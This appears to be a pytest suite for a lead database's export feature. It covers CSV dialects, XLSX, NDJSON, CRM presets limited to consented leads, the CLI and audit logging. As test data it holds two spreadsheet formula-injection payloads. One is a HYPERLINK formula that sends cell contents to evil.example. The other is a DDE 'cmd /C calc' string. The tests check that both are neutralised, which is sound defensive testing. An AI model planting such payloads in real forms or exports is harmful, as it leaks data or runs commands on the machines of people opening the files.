"""Streaming exports: CSV in both dialects (parsed with the stdlib csv module), XLSX
(read back with openpyxl), NDJSON, CRM presets that hold only consented leads, the CLI."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import threading

import openpyxl
import pytest
import sqlalchemy as sa
from click.testing import CliRunner

from consent import service as consent_service
from export import service
from leadvault import clock
from leadvault.app import runtime
from leadvault.cli import cli
from leadvault.db import read_only
from leadvault.models import Lead
from tests.test_scoring import META, cli_env, contact_form, new_lead, uow

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def people(app):
    """Three leads: one with umlauts and sales consent, one with a formula as company,
    one with newsletter only (withdrawn later)."""
    form_id = contact_form(app)
    jurgen = new_lead(
        app,
        form_id,
        "jürgen.müller@bäckerei.example",
        profile={"first_name": "Jürgen", "last_name": "Müller", "company": "Bäckerei Größe"},
        purposes=("newsletter", "sales_contact"),
    )
    mallory = new_lead(
        app,
        form_id,
        "mallory@evil.example",
        profile={"first_name": "+49 30 1234", "last_name": "-Mallory", "company": INJECTION},
        purposes=("newsletter", "sales_contact"),
    )
    nora = new_lead(app, form_id, "nora@example.org", profile={"first_name": "Nora"})
    with uow(app) as s:
        consent_service.withdraw(s, nora, ["newsletter"], meta=META)
    return {"jurgen": jurgen, "mallory": mallory, "nora": nora}


def export_bytes(app, **kwargs) -> bytes:
    selection = sa.select(Lead.id).order_by(Lead.created_at)
    with app.app_context(), read_only(runtime(app).session_factory) as s:
        plan = service.prepare(s, **kwargs)
        buffer = io.BytesIO()
        service.write(s, selection, plan, buffer, chunk_size=2)
    return buffer.getvalue()


def test_csv_default_dialect_parses_with_the_csv_module(app, people):
    data = export_bytes(
        app,
        format="csv",
        columns="id,email,first_name,last_name,company,stage,score,consent.newsletter,consent.newsletter.date,consent.newsletter.version",
    )
    assert not data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    by_id = {row["id"]: row for row in rows}
    assert set(by_id) == {str(v) for v in people.values()}
    jurgen = by_id[str(people["jurgen"])]
    assert jurgen["email"] == "jürgen.müller@bäckerei.example"
    assert jurgen["company"] == "Bäckerei Größe"
    assert jurgen["consent.newsletter"] == "granted"
    assert jurgen["consent.newsletter.version"] == "1"
    dt.datetime.strptime(jurgen["consent.newsletter.date"], "%Y-%m-%d %H:%M:%S")
    assert float(jurgen["score"]) >= 0
    mallory = by_id[str(people["mallory"])]
    # Neutralised: a spreadsheet shows these as text, it does not run them.
    assert mallory["company"] == "'" + INJECTION
    assert mallory["first_name"] == "'+49 30 1234"
    assert mallory["last_name"] == "'-Mallory"
    nora = by_id[str(people["nora"])]
    assert nora["consent.newsletter"] == "withdrawn" and nora["company"] == ""


def test_csv_excel_de_has_bom_semicolons_and_decimal_commas(app, people):
    # Ten days on, the score has decayed to a fraction.
    clock.freeze(clock.now() + dt.timedelta(days=10))
    data = export_bytes(
        app, format="csv", columns="email,company,score,fit_points", dialect="excel-de"
    )
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == "email;company;score;fit_points"
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    jurgen = next(r for r in rows if r["email"].startswith("jürgen"))
    assert re.fullmatch(r"\d+,\d", jurgen["score"]), jurgen["score"]
    mallory = next(r for r in rows if r["email"].startswith("mallory"))
    assert mallory["company"] == "'" + INJECTION


def test_xlsx_reads_back_with_openpyxl(app, people, tmp_path):
    path = tmp_path / "leads.xlsx"
    selection = sa.select(Lead.id)
    with app.app_context(), read_only(runtime(app).session_factory) as s:
        plan = service.prepare(
            s, format="xlsx", columns="email,company,score,created_at,suspect,consent.sales_contact"
        )
        assert service.write(s, selection, plan, path, chunk_size=2) == 3
    book = openpyxl.load_workbook(path)
    sheet = book["Leads"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == (
        "email",
        "company",
        "score",
        "created_at",
        "suspect",
        "consent.sales_contact",
    )
    by_email = {row[0]: row for row in rows[1:]}
    jurgen = by_email["jürgen.müller@bäckerei.example"]
    assert jurgen[1] == "Bäckerei Größe"
    assert isinstance(jurgen[2], int | float)
    assert isinstance(jurgen[3], dt.datetime)
    assert jurgen[4] is False and jurgen[5] == "granted"
    # A formula typed into a form stays text in a workbook cell.
    cell = next(c for c in sheet["B"] if c.value == INJECTION)
    assert cell.data_type == "s"
    assert "About" in book.sheetnames


def test_ndjson_has_one_object_per_lead(app, people):
    data = export_bytes(app, format="ndjson", columns="id,email,created_at,consent.newsletter")
    lines = [json.loads(line) for line in data.decode().splitlines()]
    assert len(lines) == 3
    assert {line["id"] for line in lines} == {str(v) for v in people.values()}
    assert all(line["created_at"].endswith("Z") for line in lines)


@pytest.mark.parametrize(
    ("preset", "email_header", "header"),
    [
        ("hubspot", "Email", ["Email", "First Name", "Last Name", "Company Name"]),
        ("salesforce", "Email", ["First Name", "Last Name", "Email", "Company"]),
        ("pipedrive", "Person - Email", ["Lead - Title", "Person - Name", "Person - Email"]),
        ("mautic", "email", ["email", "firstname", "lastname", "company"]),
    ],
)
def test_presets_hold_only_leads_with_sales_contact_consent(
    app, people, preset, email_header, header
):
    data = export_bytes(app, format="csv", preset=preset)
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert list(rows[0])[: len(header)] == header
    emails = {row[email_header] for row in rows}
    assert emails == {"jürgen.müller@bäckerei.example", "mallory@evil.example"}
    consent_column = "leadvault_consent" if preset == "mautic" else "Leadvault consent"
    assert all(row[consent_column].startswith("sales_contact granted ") for row in rows)
    # Withdrawn since: gone from the next export.
    with uow(app) as s:
        consent_service.withdraw(s, people["mallory"], ["sales_contact"], meta=META)
    again = list(
        csv.DictReader(io.StringIO(export_bytes(app, format="csv", preset=preset).decode()))
    )
    assert {row[email_header] for row in again} == {"jürgen.müller@bäckerei.example"}


def test_salesforce_fills_the_required_fields(app, people):
    data = export_bytes(app, format="csv", preset="salesforce")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"))))
    assert {row["Lead Source"] for row in rows} == {"Web"}
    assert all(row["Last Name"] and row["Company"] for row in rows)


def test_chunks_stream_and_the_row_count_is_exact(app, people):
    selection = sa.select(Lead.id)
    with app.app_context(), read_only(runtime(app).session_factory) as s:
        plan = service.prepare(s, format="csv", columns="id")
        tally = [0]
        pieces = list(service.stream(s, selection, plan, tally=tally, chunk_size=2))
    assert len(pieces) == 1 + 2  # the header, then one piece per chunk of two
    assert tally == [3]


@pytest.mark.committing
def test_an_export_takes_no_write_lock(app, people):
    """On SQLite a long export must not hold up writers (capture, the worker)."""
    from leadvault.db import unit_of_work

    selection = sa.select(Lead.id)
    factory = runtime(app).session_factory
    with app.app_context(), read_only(factory) as s:
        plan = service.prepare(s, format="csv", columns="id,email")
        pieces = service.stream(s, selection, plan, chunk_size=1)
        next(pieces), next(pieces)  # the export is under way, its snapshot open
        done = threading.Event()

        def write() -> None:
            with unit_of_work(factory) as w:
                w.execute(sa.update(Lead).values(language="de"))
            done.set()

        thread = threading.Thread(target=write)
        thread.start()
        assert done.wait(10), "a writer waited for the export"
        thread.join()
        assert len(list(pieces)) == 2  # and the export goes on


def test_bad_requests_name_the_problem(app):
    with app.app_context(), read_only(runtime(app).session_factory) as s:
        with pytest.raises(service.ExportError, match="unknown column 'shoe_size'"):
            service.prepare(s, columns="email,shoe_size")
        with pytest.raises(service.ExportError, match=r"consent\.PURPOSE"):
            service.prepare(s, columns="consent.cooking")
        with pytest.raises(service.ExportError, match="unknown preset"):
            service.prepare(s, preset="excel2000")
        with pytest.raises(service.ExportError, match="either"):
            service.prepare(s, preset="hubspot", columns="email")


def test_export_command(app, people, tmp_path):
    runner = CliRunner()
    env = cli_env(app)
    out = tmp_path / "crm.csv"
    result = runner.invoke(cli, ["export", "--preset", "hubspot", "-o", str(out)], env=env, obj=app)
    assert result.exit_code == 0, result.output
    assert "2 leads exported" in result.output and "sales_contact" in result.output
    assert len(list(csv.DictReader(out.open(encoding="utf-8")))) == 2

    piped = runner.invoke(
        cli, ["export", "--columns", "id,stage", "--purpose", "newsletter"], env=env, obj=app
    )
    assert piped.exit_code == 0, piped.output
    lines = [line for line in piped.stdout.splitlines() if line]
    assert lines[0] == "id,stage" and len(lines) == 1 + 2

    book = tmp_path / "leads.xlsx"
    xlsx = runner.invoke(cli, ["export", "--format", "xlsx", "-o", str(book)], env=env, obj=app)
    assert xlsx.exit_code == 0 and openpyxl.load_workbook(book)["Leads"].max_row == 4

    bad = runner.invoke(cli, ["export", "--columns", "email,shoe_size"], env=env, obj=app)
    assert bad.exit_code == 2 and "unknown column 'shoe_size'" in bad.output

    # A full disk (Linux's /dev/full) or a path that cannot be written: a message
    # naming the target and the reason, no traceback, nothing recorded as exported.
    for target, reason in [
        ("/dev/full", "No space left"),
        (str(tmp_path / "no" / "x.csv"), "No such"),
    ]:
        failed = runner.invoke(cli, ["export", "-o", target], env=env, obj=app)
        assert failed.exit_code == 1, failed.output
        assert f"could not write to {target}: {reason}" in failed.output
        assert "Traceback" not in failed.output and failed.exc_info[0] is SystemExit

    # Each export is one entry in the audit trail with its filter and row count.
    from leadvault import audit

    with uow(app) as s:
        trail = audit.entries(s, audit.Filters(action="leads.exported"))
        found = [(e.object_type, audit.detail_of(e)) for e in reversed(trail)]
        assert audit.verify(s).ok
    assert [d["rows"] for _t, d in found] == [2, 2, 3]
    assert found[0][1]["preset"] == "hubspot" and found[0][1]["require"] == "sales_contact"
    assert found[1][1]["filter"] == "newsletter granted"
    assert found[1][1]["columns"] == ["id", "stage"]
    assert found[2][1]["format"] == "xlsx" and found[2][1]["dialect"] is None
    assert all(
        t == "leads" and e.actor.startswith("cli:")
        for (t, _d), e in zip(found, reversed(trail), strict=True)
    )


@pytest.mark.parametrize("preset", [None, "hubspot"])
def test_chunk_boundaries_do_not_change_the_file(app, people, preset):
    """Every table is read by one query in the selection's order and cut into chunks in
    step with the leads: the file is the same byte for byte whatever the chunk size,
    and its rows are in the selection's order (creation time, id)."""
    selection, _words = service.selection(purpose="newsletter" if preset is None else None)
    kwargs = {"preset": preset} if preset else {"columns": "id,email,company,consent,score"}

    def export(chunk_size: int) -> bytes:
        with app.app_context(), read_only(runtime(app).session_factory) as s:
            plan = service.prepare(s, format="csv", **kwargs)
            buffer = io.BytesIO()
            service.write(s, selection, plan, buffer, chunk_size=chunk_size)
        return buffer.getvalue()

    whole = export(1000)
    assert export(1) == whole and export(2) == whole
    with uow(app) as s:
        order = [str(i) for i in s.scalars(selection)]
    rows = list(csv.reader(io.StringIO(whole.decode("utf-8"))))[1:]
    if preset is None:
        # Nora withdrew her newsletter consent: the filter leaves the other two, in order.
        assert [row[0] for row in rows] == order
        assert set(order) == {str(people["jurgen"]), str(people["mallory"])}
    else:
        assert len(rows) == 2


def test_open_fields_opens_what_decrypt_many_opens(app):
    """The export's bulk opening (leadvault.crypto.Vault.open_fields) checks what one
    field at a time checks: the lead the data key belongs to and each field's name."""
    import uuid

    from leadvault.crypto import DecryptionError

    vault = runtime(app).vault
    owner = str(uuid.uuid4())
    key, wrapped = vault.new_data_key(owner)
    sealed = [
        key.encrypt("email", "jürgen@bäckerei.example"),
        None,
        key.encrypt("attr/company", "Größe"),
    ]
    names = [b"email", b"attr/first_name", b"attr/company"]
    opened = vault.open_fields(wrapped.wrapped, wrapped.version, owner, names, sealed)
    assert opened == key.decrypt_many([(n.decode(), v) for n, v in zip(names, sealed, strict=True)])
    assert opened == ["jürgen@bäckerei.example", None, "Größe"]
    with pytest.raises(DecryptionError):
        vault.open_fields(wrapped.wrapped, wrapped.version, str(uuid.uuid4()), names, sealed)
    with pytest.raises(DecryptionError):
        vault.open_fields(wrapped.wrapped, wrapped.version, owner, names[::-1], sealed)
    with pytest.raises(DecryptionError, match="master key version 99"):
        vault.open_fields(wrapped.wrapped, 99, owner, names, sealed)


def test_a_lead_without_scoring_state_has_empty_score_columns(app, people):
    """The scoring state comes with the lead's row (an outer join): a lead without one
    (an imported contact with no event yet) is still exported, its score columns empty,
    and the others keep theirs."""
    from scoring.models import LeadScore

    with uow(app) as s:
        s.execute(sa.delete(LeadScore).where(LeadScore.lead_id == people["nora"]))
        s.execute(
            sa.update(LeadScore)
            .where(LeadScore.lead_id == people["jurgen"])
            .values(stage="mql", fit_grade="B", utm_source="=cmd|' /C calc'!A0")
        )
    data = export_bytes(app, format="csv", columns="id,stage,grade,score,utm_source,company")
    by_id = {row["id"]: row for row in csv.DictReader(io.StringIO(data.decode("utf-8")))}
    nora = by_id[str(people["nora"])]
    assert (nora["stage"], nora["grade"], nora["score"], nora["utm_source"]) == ("", "", "", "")
    jurgen = by_id[str(people["jurgen"])]
    assert (jurgen["stage"], jurgen["grade"]) == ("mql", "B")
    assert jurgen["utm_source"] == "'=cmd|' /C calc'!A0"
    assert float(jurgen["score"]) >= 0 and jurgen["company"] == "Bäckerei Größe"


@pytest.mark.parametrize("decimal_comma", [False, True])
def test_generated_csv_rows_match_the_cell_formatters(decimal_comma):
    """The row function written per column list (csv_rows._row_maker) gives each cell the
    text its column's own formatter gives, for every kind of column and value."""
    from export import columns, csv_rows, rows
    from export.fields import Field, fields_of

    fields = fields_of(
        [
            *columns.FIXED.values(),
            *columns.consent_columns("newsletter"),
            *columns.consent_columns("sales_contact"),
        ]
    )
    fields.append(Field("Custom", columns.Kind.NUMBER, lambda r: 2.5))
    when = dt.datetime(2026, 3, 2, 9, 0, 1, tzinfo=dt.UTC)
    records = [
        {"id": "a", "consents": {}, "scores": {}},
        {
            "id": "b",
            "email": "=x@y.example",
            "first_name": "Jürgen",
            "company": "+1",
            "language": "de",
            "created_at": "2026-03-02 09:00:00.123456",
            "last_activity_at": when,
            "scores": {
                "score": 12.5,
                "stage": "mql",
                "stage_changed_at": when,
                "fit_grade": "A",
                "fit_points": 3.0,
                "suspect": True,
                "first_form": "f1",
                "utm_source": "-s",
                "utm_campaign": None,
            },
            "consents": {
                "newsletter": rows.ConsentState("granted", "2026-03-02 09:00:00.5", 2),
                "sales_contact": rows.ConsentState("withdrawn", None, None),
            },
            "source": {"utm_medium": "@m", "referrer": "https://x.example/"},
        },
        {
            "id": "c",
            "consents": {"sales_contact": rows.ConsentState("pending", when, 1)},
            "scores": {"score": 0.0, "suspect": False},
        },
        {
            "id": "d",
            "email": "\tx@y.example",
            "first_name": "\rA",
            "last_name": "",
            "company": "a=b",
            "created_at": "2026-03-02",
            "last_activity_at": "2026-03-02T09:00:00.5",
            "scores": {"score": 3, "fit_points": 1e-07, "stage": "sql", "utm_source": "@x"},
            "consents": {"newsletter": rows.ConsentState("granted", "2026-03-02 09:00:00", 12)},
        },
    ]
    row = csv_rows._row_maker(fields, decimal_comma)
    formatters = [csv_rows._csv_formatter(f, decimal_comma) for f in fields]
    for record in records:
        assert row(record) == [cell(record) for cell in formatters]
